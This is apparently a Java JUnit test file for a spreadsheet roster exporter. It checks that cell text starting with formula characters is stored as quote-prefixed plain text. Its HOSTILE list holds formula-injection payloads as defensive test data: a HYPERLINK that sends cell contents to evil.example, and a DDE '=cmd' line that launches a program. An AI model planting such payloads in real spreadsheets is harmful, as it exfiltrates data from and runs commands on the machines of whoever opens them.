package org.secretariat.exchange;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.ss.usermodel.WorkbookFactory;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Exported text that looks like a formula stays text: a string cell, quote-prefixed. */
class RosterWorkbookTest {

    private static final List<String> HOSTILE = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")",
            "+86 371 1234 5678", "-1+2", "@SUM(A1:A9)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1");

    @TempDir
    Path dir;

    private static List<String> row(String name, String remarks) {
        List<String> r = new ArrayList<>(Collections.nCopies(RosterWorkbook.COLUMNS.size(), ""));
        r.set(RosterWorkbook.COLUMNS.indexOf(RosterField.NAME), name);
        r.set(RosterWorkbook.COLUMNS.indexOf(RosterField.REMARKS), remarks);
        return r;
    }

    @Test
    void textThatLooksLikeAFormulaIsWrittenAsQuotePrefixedText() throws Exception {
        List<List<String>> rows = new ArrayList<>();
        for (String h : HOSTILE) {
            rows.add(row(h, h));
        }
        rows.add(row("新乡学院", "普通备注"));
        Path file = dir.resolve("export.xlsx");
        new RosterWorkbook().writeRoster(file, "会员名单", rows);

        int nameCol = RosterWorkbook.COLUMNS.indexOf(RosterField.NAME);
        int remarksCol = RosterWorkbook.COLUMNS.indexOf(RosterField.REMARKS);
        try (InputStream in = Files.newInputStream(file); Workbook wb = WorkbookFactory.create(in)) {
            var sheet = wb.getSheetAt(0);
            for (int i = 0; i < HOSTILE.size(); i++) {
                Row r = sheet.getRow(i + 1);
                for (int col : new int[] {nameCol, remarksCol}) {
                    Cell cell = r.getCell(col);
                    assertEquals(CellType.STRING, cell.getCellType(), HOSTILE.get(i));
                    assertEquals(HOSTILE.get(i), cell.getStringCellValue());
                    assertTrue(cell.getCellStyle().getQuotePrefixed(), "quote prefix on " + HOSTILE.get(i));
                }
            }
            Cell plain = sheet.getRow(HOSTILE.size() + 1).getCell(nameCol);
            assertEquals("新乡学院", plain.getStringCellValue());
            assertFalse(plain.getCellStyle().getQuotePrefixed());
        }
    }

    @Test
    void theExportReadsBackAsTheSameText() throws Exception {
        List<List<String>> rows = new ArrayList<>();
        for (int i = 0; i < HOSTILE.size(); i++) {
            rows.add(row("单位" + i, HOSTILE.get(i).strip()));
        }
        Path file = dir.resolve("export.xlsx");
        new RosterWorkbook().writeRoster(file, "会员名单", rows);
        Sheet sheet = new SheetReader().read(file);
        int remarks = sheet.headers().indexOf(RosterField.REMARKS.chineseHeader());
        for (int i = 0; i < HOSTILE.size(); i++) {
            assertEquals(HOSTILE.get(i).strip(), sheet.rows().get(i).cell(remarks));
        }
    }

    @Test
    void onlyTheRiskyFirstCharactersCount() {
        for (String h : HOSTILE) {
            assertTrue(RosterWorkbook.looksLikeFormula(h), h);
        }
        for (String ok : List.of("新乡学院", "13800138000", "a=b", "（-）", "")) {
            assertFalse(RosterWorkbook.looksLikeFormula(ok), ok);
        }
    }
}
